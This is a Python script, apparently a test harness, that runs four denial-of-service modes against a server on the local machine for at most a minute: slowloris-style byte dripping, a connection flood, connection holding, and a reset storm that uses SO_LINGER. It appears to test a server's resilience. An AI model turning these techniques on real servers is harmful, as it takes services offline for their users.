"""Attacks a server of this machine until stopped, a minute at most.

    python3 attackers.py drip|flood|hold|storm PORT
"""
import os
import signal
import socket
import struct
import sys
import time

from clients import connected

SECONDS_MAX = 60
DRIPPING = 500
FLOOD_PER_SECOND = 1000
HOLD_PER_SECOND = 1000
HEAD = b"POST /answer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 120\r\n"
RESET_AT_CLOSE = struct.pack("ii", 1, 0)


def drip(port):
    """Sends a byte a second of a head, and of a body after it, on each of many connections."""
    message = HEAD + b"\r\n" + b"x" * 120
    clients = {index: (attempt(port, index), 0) for index in range(DRIPPING)}
    for turn in paced(DRIPPING):
        index = turn % DRIPPING
        client, sent = clients[index]
        try:
            # In every other one the head goes at once, so that its body drips.
            end = len(HEAD) + 2 if sent == 0 and index % 2 else sent + 1
            client.sendall(message[sent:end])
            clients[index] = (client, end)
        except OSError:
            client.close()
            clients[index] = (attempt(port, index), 0)


def flood(port):
    """Opens connections and closes them at once."""
    for turn in paced(FLOOD_PER_SECOND):
        attempt(port, turn).close()


def hold(port):
    """Opens connections and keeps as many as the server lets it have."""
    clients = []
    for turn in paced(HOLD_PER_SECOND):
        clients.append(attempt(port, turn))
        # What was refused lies among them, and would use up this process's descriptors.
        if len(clients) > 4000:
            clients = [client for client in clients if is_open(client)]


def storm(port):
    """Opens connections, begins a request, and resets them."""
    for turn in paced(FLOOD_PER_SECOND):
        client = attempt(port, turn)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_AT_CLOSE)
        try:
            client.sendall(HEAD)
        except OSError:
            pass
        client.close()


def attempt(port, index):
    """A connection, or a socket that is not connected where the server refused."""
    try:
        return connected(port, index)
    except OSError:
        return socket.socket()


def is_open(client):
    client.setblocking(False)
    try:
        return client.recv(4096) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def paced(per_second):
    """Numbers from 0, so many a second, until the time is over."""
    start = time.monotonic()
    turn = 0
    while (now := time.monotonic() - start) < SECONDS_MAX:
        if turn <= now * per_second:
            yield turn
            turn += 1
        else:
            time.sleep(0.002)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    {"drip": drip, "flood": flood, "hold": hold, "storm": storm}[sys.argv[1]](int(sys.argv[2]))
